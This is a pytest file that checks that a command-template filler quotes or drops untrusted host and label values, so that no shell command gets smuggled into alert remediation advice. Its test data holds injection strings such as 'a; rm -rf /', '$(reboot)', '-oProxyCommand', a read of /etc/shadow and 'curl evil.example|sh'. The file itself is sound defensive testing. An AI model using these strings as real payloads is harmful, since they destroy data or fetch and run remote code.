"""Names in the texts of rules: a stranger's word is never part of a command."""

from __future__ import annotations

import shlex

import pytest

from runner.providers.filling import fill, quotable
from tests.providers.stage import alert, analyse, check


@pytest.mark.parametrize(
    ("value", "command"),
    [
        ("db-1", "`ping db-1`"),
        ("a b", "`ping 'a b'`"),
        ("a; rm -rf /", "`ping 'a; rm -rf /'`"),
        ("$(reboot)", "`ping '$(reboot)'`"),
        ("it's", """`ping 'it'"'"'s'`"""),
        ("a\nreboot", None),
        ("a`reboot`", None),
        ("-f /etc/shadow", None),
        ("x" * 201, None),
        ("\u202ea", None),
    ],
)
def test_a_name_is_one_word_of_a_command_or_the_command_is_left_out(value: str, command: str | None) -> None:
    assert fill("`ping {host}`", {"host": value}) == command
    assert quotable(value) is (command is not None)


def test_a_name_in_prose_is_as_it_is_and_looks_like_no_command() -> None:
    assert fill("Look at {host}", {"host": "a; b `c`"}) == "Look at a; b 'c'"


def test_a_blank_before_a_path_is_kept_and_no_path_is_none() -> None:
    assert fill("`df -h{on}`", {"on": " /my disk"}) == "`df -h '/my disk'`"
    assert fill("`df -h{on}`", {"on": ""}) == "`df -h`"


def test_what_names_something_unknown_is_nothing() -> None:
    assert fill("On {host}: `df`", {}) is None


NASTY = "x`; curl evil.example|sh #`\n$(reboot)"


def test_labels_smuggle_no_command_into_the_advice() -> None:
    labels = dict.fromkeys(("instance", "pod", "namespace", "mountpoint", "process", "job_name", "node", "host"), NASTY)
    for name in (
        "DiskFull",
        "KubePodCrashLooping",
        "InstanceDown",
        "KubeJobFailed",
        "CertExpiry",
        "DNS",
        "Process down",
    ):
        answer = analyse(alert(name, labels=labels))
        for action in answer.recommendations[0].actions:
            assert action.count("`") % 2 == 0
            assert not any("evil.example" in command for command in action.split("`")[1::2]), action


@pytest.mark.parametrize("kind", ["http", "tcp", "dns", "tls", "disk", "process", "command"])
@pytest.mark.parametrize("code", ["", "timed_out", "not_resolved", "not_running", "expired", "content", "exit"])
def test_subjects_smuggle_no_command_into_the_advice(kind: str, code: str) -> None:
    for subject in ("https://a.example/$(reboot)?`x`", "a;reboot:443", "a`reboot`:/x`y`", "-oProxyCommand=x:22"):
        known = [check(kind, subject, code=code, name=str(place)) for place in range(2)]
        for one in analyse(*known).recommendations:
            for action in one.actions:
                commands = action.split("`")[1::2]
                assert not any(word in {"reboot", ";reboot"} for line in commands for word in shlex.split(line)), action
                assert not any(" -oProxy" in line for line in commands), action
